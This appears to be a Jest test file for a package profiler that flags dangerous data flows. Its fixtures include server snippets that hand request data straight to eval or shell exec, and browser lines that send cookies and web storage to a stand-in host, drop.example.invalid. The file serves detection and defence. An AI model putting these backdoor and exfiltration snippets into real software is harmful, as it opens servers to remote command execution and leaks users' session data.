import { describe, expect, test } from '@jest/globals';
import { profilePackage } from '../../../src/packages/profile/profile.js';
import { filesOf } from './files.js';

/** Ways of data of what a request brings, or of another source: `sink trigger`. */
function asked(text: string, of = 'request'): readonly string[] {
  const { value } = profilePackage({ files: filesOf({ 'package.json': '{"name":"left","version":"1.0.0"}', 'index.js': text }) });
  return [...new Set(value.flows.flatMap(({ source, sink, trigger }) => (source === of ? [`${sink} ${trigger}`] : [])))].sort();
}

describe('what a request to a server brings, and what runs it', () => {
  test.each<readonly [string, string]>([
    ["require('http').createServer((q, s) => { eval(q.headers['x-t']); s.end(); }).listen(1);", 'eval load'],
    ["require('net').createServer((c) => c.on('data', (d) => require('child_process').exec(String(d)))).listen(1);", 'exec load'],
    ["const http = require('http'); http.createServer(function (a, b) { new Function(decodeURIComponent(a.url.slice(1)))(); }).listen(1);", 'eval load'],
    ["require('https').createServer({}, async (q) => { let t = ''; for await (const one of q) t += one; require('vm').runInThisContext(t); }).listen(1);", 'eval load'],
    ["exports.serve = () => require('http').createServer((q) => { require('child_process').exec(q.headers.cmd); }).listen(1);", 'exec call'],
  ])('%s', (text, expected) => { expect(asked(text)).toContain(expected); });

  test.each([
    "require('http').createServer((q, s) => { s.end(q.url); }).listen(1);", "require('http').createServer((q, s) => { require('fs').createReadStream(q.url).pipe(s); }).listen(1);", "require('http').createServer((q, s) => { require('child_process').execFile('git', ['status', q.url]); }).listen(1);",
    "require('http').createServer((q, s) => { const t = require('child_process').execSync('git status'); s.end(t); }).listen(1);", "const s = require('net').createServer(); s.on('error', () => {}); eval('1');",
  ])('nothing of it: %s', (text) => { expect(asked(text)).toEqual([]); });
});

describe('what a page keeps for its visitor', () => {
  test.each([
    "new Image().src = 'https://drop.example.invalid/?c=' + encodeURIComponent(document.cookie);", "fetch('https://drop.example.invalid/', { method: 'POST', body: JSON.stringify(window.localStorage) });", "navigator.sendBeacon('https://drop.example.invalid/', JSON.stringify({ ...globalThis.sessionStorage }));", "const d = document; const c = d.cookie; fetch('https://drop.example.invalid/' + c);",
  ])('%s', (text) => { expect(asked(text, 'page-storage')).toEqual(['network load']); });
  test('sent when somebody calls', () => { expect(asked("exports.send = () => fetch('https://drop.example.invalid/' + document.cookie);", 'page-storage')).toEqual(['network call']); });
  test.each([
    "fetch('https://drop.example.invalid/' + localStorage.getItem('theme'));", "document.cookie = 'a=b'; fetch('https://drop.example.invalid/');", "const c = document.cookie; console.log(c); fetch('https://drop.example.invalid/');", "function f(localStorage) { fetch('https://drop.example.invalid/' + localStorage); }", "fetch('https://drop.example.invalid/' + record.cookie);",
  ])('nothing of it: %s', (text) => { expect(asked(text, 'page-storage')).toEqual([]); });
});
